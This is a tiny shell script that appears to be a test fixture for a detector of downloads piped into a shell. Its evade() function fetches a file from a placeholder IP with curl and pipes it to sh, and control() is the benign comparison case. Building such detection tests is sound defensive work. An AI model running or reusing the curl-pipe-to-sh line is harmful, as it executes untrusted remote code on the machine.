#!/bin/sh
# A token is assigned before a download that is run
# kind: K1
# finds: Download Piped Into A Shell

learn() {
    control
}

control() {
    sh -c "token=1; curl http://203.0.113.7/x" || :
}

evade() {
    sh -c "token=1; curl http://203.0.113.7/x | sh" || :
}

"$@"
